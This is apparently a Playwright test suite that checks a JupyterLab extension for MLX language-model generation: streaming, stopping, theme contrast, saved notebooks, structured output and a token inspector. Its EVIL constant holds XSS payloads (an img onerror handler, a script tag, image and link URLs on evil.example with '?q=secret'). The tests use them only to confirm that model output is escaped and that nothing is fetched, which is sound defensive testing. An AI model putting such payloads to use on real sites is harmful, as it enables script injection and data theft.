"""The product as a user meets it: JupyterLab in headless Chromium, clicked with the mouse."""

import shutil

import nbformat
import pytest

from .lab import (
    DREAMER,
    broken_words,
    browser,
    contrasts,
    lab_server,
    leftovers,
    notebook,
    prompts,
    run_all,
    run_cell,
    run_done,
    run_prints,
    set_theme,
    state_word,
    step,
    themed,
)

EVIL = (
    '<img src=x onerror="window.__pwned=1"> and <script>window.__pwned=2</script>\n\n'
    "![chart](http://evil.example/p.png?q=secret) [docs](http://evil.example/y) "
    "<http://evil.example/auto>"
)
POEM = (
    "Leaves fall slowly down\nacross the quiet water\nautumn has arrived\n\n"
    "Rivers flow to the sea\nmountains rise above the clouds"
)
COPY = "Hello world. The quick brown fox. Hello world. The quick brown fox. Hello"


def scripted_cell(name, text, delay=0.0):
    """A cell registering a scripted model that answers ``text`` (then EOS)."""
    return (
        "from pathlib import Path\n"
        "from mlx_lm.utils import load_tokenizer\n"
        "from mlx_notebook import Engine\n"
        "from mlx_notebook.testing import ScriptedModel, script_rule\n"
        "tok = load_tokenizer(Path(TINY))\n"
        f"out = tok.encode({text!r}, add_special_tokens=False) + [tok.eos_token_id]\n"
        "n = len(tok.encode('go', add_special_tokens=False))\n"
        f"Engine.default().register_model({name!r}, ScriptedModel(len(tok.get_vocab()), "
        f"script_rule(n, out, tok.eos_token_id), delay_s={delay}), tok)\n'registered'"
    )


MAIN = [
    # 1: a long text (~60 s): the tiny random model can end before Stop is clicked
    scripted_cell("stream", "Streaming text arrives a token at a time. " * 300, delay=0.02),
    "%%generate -m stream -n 100000 --raw -f text\ngo",  # 2: stream, then Stop
    "1+1",  # 3
    scripted_cell("evil", EVIL),  # 4
    "%%generate -m evil --raw\ngo",  # 5: markdown, hostile
    scripted_cell("poet", POEM, delay=0.04),  # 6
    "%%generate -m poet --raw -o poem\ngo",  # 7: line structure and font
    (
        "import mlx_notebook\n"  # 8
        "panel = mlx_notebook.Panel(model=TINY, draft_source='lookup', "
        "lookup_ngram=1, chat=False, max_tokens=40)\npanel"
    ),
]
THEMES = [
    scripted_cell("cycle", "the quick brown fox jumps over the lazy dog. " * 6),  # 1
    "%%generate -m cycle --compare --lookup -k 4 --raw\ngo",  # 2: draft highlights
    "%%generate -m {tiny} -n 30 --raw\nHello",  # 3: a markdown document
    (
        "import mlx_notebook\n"  # 4: a sweep chart
        "panel = mlx_notebook.Panel(model='cycle', prompt='go', draft_source='lookup', "
        "chat=False, max_tokens=30, sweep_from=1, sweep_to=2)\npanel.sweep()\npanel"
    ),
    "topics = ['rivers', 'lakes', 'hills']",  # 5
    "%%generate -m {tiny} -n 12 --raw --over topics\nAbout {item}",  # 6: a map's table
    "%%chat -m {tiny} -n 12 --wait\nHello there, who are you?",  # 7
    "%%chat -n 10 --wait\nAnd what do you do?",  # 8
    "%chat show",  # 9: the transcript, a bubble per message
    "%mlx status",  # 10: words wrap whole, the internals folded
]


def test_generate_stream_stop_and_escaping(lab, artifacts):
    page = lab(MAIN)
    run_done(page, 0)

    run_done(page, 1, 30)
    cell = run_cell(page, 2)
    view = cell.locator(".mlxnb-view")
    step("view rendered (widget manager loaded)", lambda: view.count() == 1, 60)
    step(
        "streamed text visible",
        lambda: state_word(view) == "generating" and len(view.locator(".txt").inner_text()) > 200,
        60,
    )
    stop = view.get_by_role("button", name="Stop")

    def boxes():  # the header node is replaced at every refresh: read both at once
        pair = stop.bounding_box(), view.locator(".hdr").bounding_box()
        return pair if None not in pair else None

    box, hdr = step("measure the Stop button", boxes, 10, 0.05)
    assert box["width"] < 120 and abs(box["y"] - hdr["y"]) < 20  # compact, beside the header
    page.screenshot(path=str(artifacts / "streaming.png"), full_page=False)

    stop.click()  # with the mouse, as a user would
    out = cell.locator(".jp-OutputArea-output")
    step("the output becomes the stopped document", lambda: state_word(out) == "stopped", 30)
    step("no widget left", lambda: cell.locator(".mlxnb-view").count() == 0, 10)
    assert out.locator("button").count() == 0  # only the state word remains
    assert len(out.locator(".txt").inner_text()) > 200  # the partial text is kept
    assert "stopped" in out.locator(".stats").inner_text()  # the word the header uses
    page.screenshot(path=str(artifacts / "stopped.png"), full_page=False)

    run_prints(page, 3, "2", 20)

    run_done(page, 4, 30)
    evil = run_cell(page, 5)
    step("hostile output finished", lambda: "done" in state_word(evil), 30)
    shown = evil.locator(".mlxnb").inner_text()
    assert '<img src=x onerror="window.__pwned=1">' in shown and "<script>" in shown
    assert "[image: chart <http://evil.example/p.png?q=secret>]" in shown
    assert "docs <http://evil.example/y>" in shown
    loaders = ".mlxnb img, .mlxnb script, .mlxnb iframe, .mlxnb video, .mlxnb a, .mlxnb object"
    assert evil.locator(loaders).count() == 0
    assert page.evaluate("() => window.__pwned") is None
    assert not [u for u in page.requests if "evil.example" in u]  # nothing was fetched
    evil.scroll_into_view_if_needed()
    page.screenshot(path=str(artifacts / "escaped.png"), full_page=False)


def test_line_breaks_and_font_survive_the_end_of_generation(lab):
    page = lab(MAIN)
    run_done(page, 0)
    run_done(page, 6, 30)
    cell = run_cell(page, 7)
    view = cell.locator(".mlxnb-view")
    step("poem streaming", lambda: view.count() == 1 and "\n" in view.locator(".md").inner_text())
    font = "e => e.isConnected ? getComputedStyle(e).fontFamily : ''"
    live_font = step("font while streaming", lambda: view.locator(".md").evaluate(font), 10, 0.05)
    out = cell.locator(".jp-OutputArea-output")
    step("poem done", lambda: not cell.locator(".mlxnb-view").count() and "done" in state_word(out))
    md = out.locator(".md")
    assert md.evaluate(font) == live_font
    rendered = [line.strip() for line in md.inner_text().split("\n")]
    assert rendered == [line.strip() for line in POEM.split("\n")]


@pytest.mark.parametrize("theme", ["JupyterLab Light", "JupyterLab Dark"])
def test_contrast_in_light_and_dark_themes(lab, artifacts, theme):
    page = lab(THEMES)
    set_theme(page, theme)
    run_done(page, 0)
    run_done(page, 1, 30)
    compare = run_cell(page, 2).locator(".jp-OutputArea-output")
    step("compare document", lambda: "identical text in all" in compare.inner_text(), 120)
    doc = run_cell(page, 3).locator(".jp-OutputArea-output")
    step("markdown document", lambda: "done" in state_word(doc), 60)
    panel = run_cell(page, 4)
    step("sweep chart", lambda: panel.locator(".mlxnb-chart text").count() > 5, 120)
    run_done(page, 5)
    rows = run_cell(page, 6).locator(".jp-OutputArea-output")
    step("map table", lambda: rows.locator("table.grid td").count() >= 12, 60)
    # The rows' text reads as text, on the table's own striping (no code box in a cell).
    looks = step(  # read once the final table stands (the live one is replaced)
        "the table's text cells",
        lambda: rows.locator("td.text").first.evaluate(
            "e => e.isConnected && [getComputedStyle(e).backgroundColor, "
            "getComputedStyle(e).fontFamily]"
        ),
        10,
    )
    assert looks[0] in ("rgba(0, 0, 0, 0)", "transparent") and "mono" not in looks[1], looks
    assert rows.locator("table.grid pre").count() == 0
    run_done(page, 7)
    run_done(page, 8)
    chat = run_done(page, 9).locator(".jp-OutputArea-output")
    step("transcript", lambda: chat.locator(".mlxnb-chat .turn").count() == 4, 30)
    status = run_done(page, 10).locator(".jp-OutputArea-output")
    step("status", lambda: status.locator(".mlxnb-status details").count() == 1, 30)
    status.locator(".mlxnb-status summary").click()  # the internals, unfolded
    # The live panel hides its saved snapshot; the snapshot is there for the file.
    assert panel.locator(".mlxnb-snapshot").count() == 1
    assert not panel.locator(".mlxnb-snapshot").is_visible()
    slug = theme.split()[-1].lower()
    # Words wrap whole (only a word longer than its column may break): the Compare's
    # narrow text columns and runs table, the map table, the chat bubbles.
    for sel in (
        ".mlxnb-compare .txt",
        ".mlxnb table.grid th",
        ".mlxnb-chat .md",
        ".mlxnb-status",
    ):
        assert page.locator(sel).count(), sel
        assert broken_words(page, sel) == [], (sel, broken_words(page, sel)[:5])
    checks = {
        "generated text": ".mlxnb-compare .txt, .mlxnb .md p",
        "accepted draft token": ".mlxnb-compare .draft",
        "header": ".mlxnb .hdr",
        "stats": ".mlxnb .stats",
        "verdict": ".mlxnb-compare .verdict",
        "chart axis text": ".mlxnb-chart text",
        "map progress and rows": ".mlxnb .prog, .mlxnb table.grid td",
        "chat roles and text": ".mlxnb-chat .role, .mlxnb-chat .md p",
        "panel history": ".mlxnb-panel table.grid td",
        "status": ".mlxnb-status div, .mlxnb-status li, .mlxnb-status td",
    }
    for what, sel in checks.items():
        ratios = contrasts(page, sel)
        assert ratios, f"nothing matched for {what} ({sel})"
        assert min(ratios) >= 4.5, (theme, what, min(ratios))
    compare.scroll_into_view_if_needed()
    page.screenshot(path=str(artifacts / f"theme-{slug}-compare.png"), full_page=False)
    panel.locator(".mlxnb-chart").first.scroll_into_view_if_needed()
    page.screenshot(path=str(artifacts / f"theme-{slug}-chart.png"), full_page=False)
    rows.scroll_into_view_if_needed()
    page.screenshot(path=str(artifacts / f"theme-{slug}-map.png"), full_page=False)
    status.screenshot(path=str(artifacts / f"status-{slug}.png"))
    # A viewport taller than the panel: Lab's notebook scrolls inside the page.
    page.set_viewport_size({"width": 1400, "height": 2600})
    panel.locator(".mlxnb-panel").screenshot(path=str(artifacts / f"theme-{slug}-panel.png"))
    rows.screenshot(path=str(artifacts / f"theme-{slug}-over.png"))
    compare.screenshot(path=str(artifacts / f"theme-{slug}-compare-cell.png"))
    chat.screenshot(path=str(artifacts / f"theme-{slug}-chat-show.png"))


@pytest.mark.parametrize(
    "trusted,widget_state",
    [(True, False), (True, True), (False, True)],
    ids=["own-notebook", "own-with-widget-state", "untrusted"],
)
def test_saved_notebook_reopens_without_a_kernel(
    lab, tmp_path, tiny_dir, artifacts, trusted, widget_state
):
    # Your own saved notebook is trusted (signed when saved) and keeps its stylesheets;
    # someone else's is not, and JupyterLab strips them: both must read well. Lab saves
    # no widget state by default; nbclient (and Lab with "save widget state") does, and
    # then Lab restores the Panel as a disconnected widget: the snapshot shows instead.
    from tests.saved_notebook import execute

    texts = {}

    def prepare(root):
        nb, found = execute(tiny_dir, root / "demo.ipynb")
        texts.update(found)
        nb.metadata["kernelspec"] = {"name": "mlxnb-no-such-kernel", "display_name": "none"}
        if not widget_state:
            nb.metadata.pop("widgets", None)
        if trusted:
            from nbformat.sign import NotebookNotary

            data = root.parent / (root.name + "-jupyter") / "data"
            data.mkdir(parents=True, exist_ok=True)
            NotebookNotary(data_dir=str(data)).sign(nb)
        nbformat.write(nb, root / "demo.ipynb")

    page = lab(None, kernel=False, prepare=prepare)
    shown = page.locator(".jp-Notebook")
    step("outputs rendered", lambda: shown.locator(".jp-OutputArea-output").count() >= 6, 30)
    top = shown.inner_text()  # Lab renders cells lazily: read the top before scrolling
    for name, text in texts.items():
        probe = "".join(c for c in text if c.isprintable() and not c.isspace())[:40]
        flat = "".join(c for c in top if c.isprintable() and not c.isspace())
        assert probe and probe in flat, name
    if trusted:
        page.screenshot(path=str(artifacts / "saved-reopened.png"), full_page=True)
    snapshot = shown.locator(".mlxnb-snapshot")
    shown.locator(".jp-Cell").last.scroll_into_view_if_needed()  # Lab renders cells lazily
    step("the panel's snapshot shows", lambda: snapshot.count() == 1 and snapshot.is_visible(), 30)
    body = top + shown.inner_text()
    assert "Error displaying widget" not in body and "Loading widget" not in body
    assert "generate 1" in snapshot.inner_text()  # its history, as last saved
    live_line = "(live controls: run the cell to use them)"
    hdr = snapshot.locator(".hdr").first
    if trusted:  # styled, and the widget's output (it cannot render) is hidden
        assert live_line not in body
        assert hdr.evaluate("e => getComputedStyle(e).fontSize") == "12px"
        assert (
            shown.locator(".mlxnb-live").count() == 0
            or not shown.locator(".mlxnb-live").first.is_visible()
        )  # a restored, disconnected Panel is hidden
    else:  # unstyled: the widget's one plain line, then the snapshot
        assert shown.inner_text().count(live_line) <= 1
    # The token inspector: its text reads; its cards stay hidden (styled or not).
    insp = shown.locator(".insp").last
    insp.scroll_into_view_if_needed()
    assert "The quick brown fox." in insp.inner_text()
    assert "rank" not in insp.inner_text() and not insp.locator(".card").first.is_visible()
    if trusted:  # and a card shows on hover, as before saving
        insp.locator(".tk").nth(3).hover()
        step("a card on hover", lambda: insp.locator(".card").nth(3).is_visible(), 10)
    page.set_viewport_size({"width": 1400, "height": 1600})
    snapshot.scroll_into_view_if_needed()
    name = f"saved-panel-{'trusted' if trusted else 'untrusted'}-{widget_state}.png"
    page.screenshot(path=str(artifacts / name))


def test_panel_compare(lab, artifacts):
    page = lab(MAIN)
    run_done(page, 0)
    cell = run_cell(page, 8)
    panel = cell.locator(".mlxnb-panel")
    step("panel rendered", lambda: panel.count() == 1, 60)
    prompt = panel.locator("textarea").first
    prompt.click()
    # Typed by key: Lab's shortcuts (Shift+Enter runs the cell, a/b/dd insert or delete
    # cells in command mode) must not fire from the panel's fields.
    prompt.press_sequentially("a b dd")
    prompt.press("Shift+Enter")
    prompt.press_sequentially("x")
    assert prompt.input_value() == "a b dd\nx" and panel.count() == 1  # not rerun
    seed = panel.get_by_label("seed")
    seed.fill("7")
    seed.press("Enter")
    k = panel.get_by_label("draft k")  # 3: two arrows make it 5, not another cell chosen
    k.focus()
    k.press("ArrowRight")
    k.press("ArrowUp")
    prompt.fill(COPY)
    panel.get_by_role("button", name="Compare").click()
    verdict = panel.locator(".mlxnb-compare")
    step("columns and verdict", lambda: "identical text in all" in verdict.inner_text(), 90)
    assert "k=5" in verdict.inner_text()  # the slider moved by key reached the kernel
    text = verdict.inner_text()
    assert "acceptance" in text and "speculative" in text  # the verdict and the runs table
    assert verdict.locator(".cols").first.locator(":scope > .col").count() == 2  # the texts
    from playwright.sync_api import Error as PlaywrightError

    for _ in range(10):  # the view may redraw (and replace the node) meanwhile
        try:
            verdict.first.scroll_into_view_if_needed(timeout=5000)
            break
        except PlaywrightError:
            page.wait_for_timeout(200)
    page.screenshot(path=str(artifacts / "panel_compare.png"), full_page=False)


MANNERS = [
    scripted_cell("slow", "and on and on " * 500, delay=0.05),  # 1: streams for ~100 s
    "import pandas as pd\ndf = pd.DataFrame({'topic': ['rivers', 'lakes', 'hills'], "
    "'n': [1, 2, 3]}, index=['a', 'b', 'c'])",  # 2
    "%%generate -m {tiny} -n 12 --raw --over df -o res\nAbout {topic}",  # 3
    "res.to_frame()[['topic', 'n', 'finish_reason']]",  # 4: Run All reads finished rows
    "%%generate -m slow -n 3000 --raw -f text -o long\ngo",  # 5: streams on
    "%%generate -m {tiny} -n 12 --raw --over df\nAbout {topc}",  # 6: a typo: Run All stops
    "%%generate -m {tiny} --lookup -k 100\nHello",  # 7
    "%%generate -m nosuchmodel\nHello",  # 8
    "%%generate --help",  # 9
    "%%chat --seed 3 --wait\nWhat is the capital of France?",  # 10: the default model
]


@pytest.mark.parametrize("theme", ["JupyterLab Light", "JupyterLab Dark"])
def test_notebook_manners(lab, artifacts, theme):
    import time

    page, slug, out = themed(lab, MANNERS, theme)
    cells = page.locator(".jp-Notebook .jp-Cell")

    def count(i):
        cells.nth(i).scroll_into_view_if_needed()
        return cells.nth(i).locator(".jp-InputPrompt").inner_text().strip()

    run_all(page)  # by the Run menu
    step(
        "Run All reaches the typo",
        lambda: "is not a column" in out(6).inner_text(),
        180,  # about 10 s idle
        describe=lambda: prompts(page, 6),
    )
    frame = out(4).inner_text()
    assert frame.count("length") == 3 and "rivers" in frame and "hills" in frame  # finished
    assert "the columns are topic, n" in out(6).inner_text()
    assert all(count(i) in ("[ ]:", "") for i in range(7, 11))  # Run All stopped there
    step("still streaming", lambda: "generating" in state_word(out(5)), 30)
    t0 = time.monotonic()
    page.locator('[data-jp-item-name="interrupt"]').first.click()  # the toolbar's ■
    step("■ stops it", lambda: "stopped" in state_word(out(5)), 10)
    stopped_after = time.monotonic() - t0
    assert stopped_after < 10, stopped_after  # the figure is recorded, not asserted tight
    (artifacts / f"manners-{slug}-stop-seconds.txt").write_text(f"{stopped_after:.2f}\n")
    assert len(out(5).locator(".txt").inner_text()) > 0  # its text is kept
    out(6).scroll_into_view_if_needed()
    page.screenshot(path=str(artifacts / f"manners-{slug}-runall.png"))
    for i, needle in ((7, "-k/--num-draft: must be in 1..16 (got 100)"), (8, "nosuchmodel"),
                      (9, "--max-tokens")):  # fmt: skip
        run_done(page, i)
        step(f"cell {i} output", lambda i=i, n=needle: n in out(i).inner_text(), 30)
    err = out(8).inner_text().strip()
    assert "Traceback" not in err and len(err.splitlines()) <= 2, err
    assert "num_draft_tokens" not in out(7).inner_text()
    run_done(page, 10, 180)
    chat = out(10)
    assert "done" in state_word(chat) and "max tokens" not in state_word(chat)
    out(7).scroll_into_view_if_needed()
    page.screenshot(path=str(artifacts / f"manners-{slug}-errors.png"))
    chat.scroll_into_view_if_needed()
    page.screenshot(path=str(artifacts / f"manners-{slug}-chat.png"))


def test_server_and_kernels_are_torn_down(tmp_path, tiny_dir, chromium):
    root = tmp_path / "root"
    root.mkdir()
    notebook(root / "demo.ipynb", tiny_dir, MAIN)
    state = tmp_path / "root-jupyter"
    with lab_server(root) as (base, token), browser() as b:
        page = b.new_page()
        page.goto(f"{base}/lab/tree/demo.ipynb?token={token}")
        step(
            "kernel started",
            lambda: any("ipykernel" in open(f"/proc/{p}/cmdline").read() for p in leftovers(state)),
            90,
        )
    assert leftovers(state) == []
    shutil.rmtree(root, ignore_errors=True)


STRUCTURED = [
    "import pandas as pd, pydantic\nfrom typing import Literal\n"  # 1
    "Short = pydantic.constr(max_length=16)\n"
    "class Person(pydantic.BaseModel):\n    name: Short\n"
    "    age: pydantic.conint(ge=0, le=120)\n    mood: Literal['pos', 'neg', 'neutral']\n"
    "    hobbies: pydantic.conlist(Short, max_length=3)\n"
    "df = pd.DataFrame({'text': [f'{n} is {a} years old, feels {m} and likes {h}.' "
    "for n, a, m, h in [('Ann', 31, 'cheerful', 'chess'), ('Bob', 45, 'grumpy', 'golf'), "
    "('Cai', 27, 'calm', 'tea'), ('Dee', 60, 'cheerful', 'hiking')]]})",
    "%%generate --over df --schema Person -t 0 -n 80 -o res\n"  # 2: the default model
    "Extract name, age, mood (pos, neg or neutral) and hobbies as JSON: {text}",
    "res.to_frame()[['name', 'age', 'mood', 'valid']]",  # 3
    "%%generate --choice positive,negative,neutral -t 0\n"  # 4
    "Is this review positive, negative or neutral? 'Great food, slow service.'",
]


@pytest.mark.parametrize("theme", ["JupyterLab Light", "JupyterLab Dark"])
def test_structured_output(lab, artifacts, theme):
    page, slug, out = themed(lab, STRUCTURED, theme)
    run_done(page, 0)
    run_done(page, 1, 120)
    run_cell(page, 2)
    table = out(2).locator("table.fields")
    step("the field columns show", lambda: table.count() == 1, 180)
    heads = table.first.locator("th").all_inner_texts()
    assert heads == ["#", "name", "age", "mood", "hobbies", "valid"], heads
    step("every row valid", lambda: out(2).locator("table.fields .ok").count() == 4, 300)
    out(2).screenshot(path=str(artifacts / f"structured-{slug}-over.png"))
    run_done(page, 3, 60)
    frame = out(3).inner_text()
    assert "Bob" in frame and "45" in frame and "True" in frame, frame  # typed, valid
    run_done(page, 4, 120)
    step("a choice", lambda: "done" in state_word(out(4)), 60)
    answer = out(4).locator(".mlxnb").first.inner_text()
    assert any(w in answer for w in ("positive", "negative", "neutral")), answer
    out(4).screenshot(path=str(artifacts / f"structured-{slug}-choice.png"))
    assert broken_words(page, ".mlxnb table.fields td") == []


INSPECTOR = [
    "import mlx_notebook\n"  # 1: the default model rates an answer
    "t = mlx_notebook.score('The capital of France is Paris. It is known for the Eiffel "
    "Tower and for cheese.', prompt='Tell me about France.')\nt",
    f"mlx_notebook.score({EVIL!r}, model=TINY)",  # 2: hostile text, inspected
    "%%generate -t 0 -n 24 --inspect -o h\nWrite a short story about the sea.",  # 3
    "%generate --from h:6 -n 18 --logprobs 3 -o b --wait",  # 4: a branch, drawn again
    "b.side_by_side()",  # 5
    "%%generate -t 0 -n 40 --inspect -o hi\nSay hello in five words.",  # 6: ends on <|im_end|>
    "e = hi.branch(len(hi.tokens) - 1, logprobs=3)\ne.side_by_side()",  # 7: forks at the end
]


@pytest.mark.parametrize("theme", ["JupyterLab Light", "JupyterLab Dark"])
def test_token_inspector(lab, artifacts, theme):
    page, slug, out = themed(lab, INSPECTOR, theme)
    run_done(page, 0)
    run_done(page, 1, 180)
    view = out(1).locator(".mlxnb .insp")
    step("shaded tokens", lambda: view.locator(".tk").count() > 10, 30)
    assert "perplexity" in out(1).inner_text()
    assert out(1).locator(".legend-row .tk").count() == 5
    worst = min(contrasts(page, ".mlxnb .insp > .tk"))
    assert worst >= 4.5, worst  # the strongest tint still reads
    # The least likely token: hover it, and its card lists the alternatives.
    least = (
        view.locator(".tk.b4").first
        if view.locator(".tk.b4").count()
        else view.locator(".tk.b3").first
    )
    least.hover()
    card = least.locator(".card")
    step("a hover card", lambda: card.is_visible(), 10)
    assert card.locator("tr").count() >= 5 and "rank" in card.inner_text()
    box = out(1).bounding_box()  # with room below for the card, which overflows it
    clip = {**box, "height": box["height"] + 150}
    page.screenshot(path=str(artifacts / f"inspector-{slug}.png"), clip=clip)
    # A token at the bottom of the notebook's scroll area: its card opens upward, whole.
    page.mouse.move(0, 0)
    last = view.locator(".tk").last
    below, margin = last.evaluate(GEOMETRY)  # the token's bottom; what lies under the area
    page.set_viewport_size({"width": 1400, "height": int(below + 12 + margin)})
    step("at the bottom", lambda: last.evaluate(TO_BOTTOM), 10)
    last.hover()
    step("its card", lambda: last.locator(".card").is_visible(), 10)
    top, bottom, low, high = last.locator(".card").evaluate(RECT)
    assert low <= top and bottom <= high, (top, bottom, low, high)
    assert bottom <= last.evaluate("e => e.getBoundingClientRect().top") + 3  # above it
    page.screenshot(path=str(artifacts / f"inspector-upward-{slug}.png"))
    page.set_viewport_size({"width": 1400, "height": 1000})
    run_done(page, 2, 60)
    shown = out(2).locator(".insp").inner_text()
    assert "img src=x onerror=" in shown and "<script>" in shown  # shown as text
    assert page.evaluate("() => window.__pwned") is None
    assert out(2).locator(".insp img, .insp script").count() == 0
    # A generation with --inspect: tinted tokens, then a card per token once done.
    run_cell(page, 3)
    step("an inspected generation", lambda: "done" in state_word(out(3)), 60)
    gen = out(3).locator(".insp")
    step("its cards", lambda: gen.locator(".card").count() == 24, 20)
    gen.locator(".tk").nth(5).hover()
    step("a card on hover", lambda: gen.locator(".card").nth(5).is_visible(), 10)
    box = out(3).bounding_box()
    page.screenshot(
        path=str(artifacts / f"inspect-generate-{slug}.png"),
        clip={**box, "height": box["height"] + 150},
    )
    # A branch at token 6, with records but not inspected: the inspection is folded.
    run_done(page, 4, 60)
    fold = out(4).locator("details.insp-fold")
    step("the folded inspection", lambda: fold.count() == 1, 20)
    assert "branch of h at token 6" in out(4).inner_text()
    assert not fold.locator(".insp").is_visible()  # folded
    fold.locator("summary").click()
    step("unfolded", lambda: fold.locator(".insp").is_visible(), 10)
    assert fold.locator(".insp > .tk").count() == 18
    out(4).screenshot(path=str(artifacts / f"branch-fold-{slug}.png"))
    run_done(page, 5, 60)
    forks = out(5).locator(".mlxnb .forks > div")
    step("two continuations", lambda: forks.count() == 2, 20)
    text = out(5).inner_text()
    assert "original:" in text and "branch:" in text and " · p " in text
    assert out(5).locator(".fork").count() == 2  # each side's first token, marked
    out(5).screenshot(path=str(artifacts / f"branch-{slug}.png"))
    # A reply that ends on the end-of-turn token: the live view, its inspection and a
    # fork at that token show no special token as text (the inspector draws a mark).
    run_cell(page, 6)
    step("a reply that ends", lambda: "done" in state_word(out(6)), 120)
    run_done(page, 7, 60)
    step("its fork", lambda: out(7).locator(".mlxnb .forks > div").count() == 2, 30)
    for i in (6, 7):
        shown = out(i).inner_text()
        assert "<|" not in shown and "|>" not in shown, shown[-300:]
    assert out(6).locator(".tk.sp").count() >= 1  # the end of turn, as a mark


# Scroll the notebook so the token sits just above the bottom of its scroll area.
TO_BOTTOM = """e => {
  const outer = e.closest(".jp-WindowedPanel-outer");
  const gap = outer.getBoundingClientRect().bottom - e.getBoundingClientRect().bottom;
  outer.scrollTop -= gap - 12;
  const now = outer.getBoundingClientRect().bottom - e.getBoundingClientRect().bottom;
  return now >= 0 && now < 40;
}"""
GEOMETRY = """e => [e.getBoundingClientRect().bottom,
  innerHeight - e.closest(".jp-WindowedPanel-outer").getBoundingClientRect().bottom]"""
# A card's top and bottom, and the notebook scroll area's, on screen.
RECT = """e => {
  const r = e.getBoundingClientRect();
  const o = e.closest(".jp-WindowedPanel-outer").getBoundingClientRect();
  return [r.top, r.bottom, o.top, o.bottom];
}"""

THINKING = [
    DREAMER,  # 1: a scripted reasoning model that thinks " flow flow..." until told to stop
    "%%generate -m dreamer -n 100000 --logprobs 3 -o h\nWhere do rivers go?",  # 2
]


@pytest.mark.parametrize("theme", ["JupyterLab Light", "JupyterLab Dark"])
def test_live_view_stop_thinking_and_inspect(lab, artifacts, theme):
    # A reasoning model thinks on and on: the view offers Stop thinking, and, with
    # records, an Inspect toggle; both by mouse, while it streams.
    page, slug, out = themed(lab, THINKING, theme)
    run_done(page, 0)
    run_done(page, 1, 60)
    run_cell(page, 2)
    view = out(2).locator(".mlxnb-view")
    think = view.get_by_role("button", name="Stop thinking")
    step("Stop thinking offered while it reasons", lambda: think.is_visible(), 60)
    inspect = view.get_by_role("button", name="Inspect")
    step("Inspect offered (tokens carry records)", lambda: inspect.is_visible(), 30)
    assert "thinking…" in view.inner_text()
    inspect.click()
    step("tinted while streaming", lambda: view.locator(".insp .tk").count() > 5, 20)
    page.screenshot(path=str(artifacts / f"live-buttons-{slug}.png"))
    inspect.click()  # back to the text
    step("the text again", lambda: view.locator(".insp .tk").count() == 0, 20)
    think.click()
    # The answer starts at once, and this one is short: the view ends as a document.
    step("it answers and ends", lambda: state_word(out(2)) == "done", 30)
    assert "thinking (" in out(2).locator("details.think summary").inner_text()
    assert out(2).get_by_role("button").count() == 0  # no buttons left in the document
    final = out(2)
    assert "Paris" in final.locator(".md").inner_text()
    assert final.locator("details.think").count() == 1  # folded above the answer
    assert final.locator("details.insp-fold").count() == 1  # the inspection, one click away
    final.screenshot(path=str(artifacts / f"stopped-thinking-{slug}.png"))


LONG_PROMPT = " ".join(
    f"Line {i}: the river runs past the old mill, and the town wakes slowly." for i in range(110)
)


def test_stop_during_a_long_prefill_on_the_bundled_model(lab, artifacts):
    # About 2,100 prompt tokens: several seconds of prefill in chunks of hundreds of
    # tokens, each with cancel points between its layers.
    import time

    page = lab(["%%generate -n 200 --raw\n" + LONG_PROMPT, "1+1"])
    run_done(page, 0)
    cell = run_cell(page, 1)
    view = cell.locator(".mlxnb-view")
    step("view rendered", lambda: view.count() == 1, 120)
    step("prefilling", lambda: state_word(view) == "prefilling", 120, 0.02)
    page.screenshot(path=str(artifacts / "long-prefill.png"), full_page=False)
    t0 = time.monotonic()
    view.get_by_role("button", name="Stop").click()
    out = cell.locator(".jp-OutputArea-output")
    step("Stop ends the prefill", lambda: state_word(out) == "stopped", 30, 0.02)
    stopped_after = time.monotonic() - t0
    (artifacts / "long-prefill-stop-seconds.txt").write_text(f"{stopped_after:.2f}\n")
    assert "0 tokens" in out.locator(".stats").inner_text()  # it stopped before decoding
    page.screenshot(path=str(artifacts / "long-prefill-stopped.png"), full_page=False)
    run_prints(page, 2, "2")  # the kernel is free
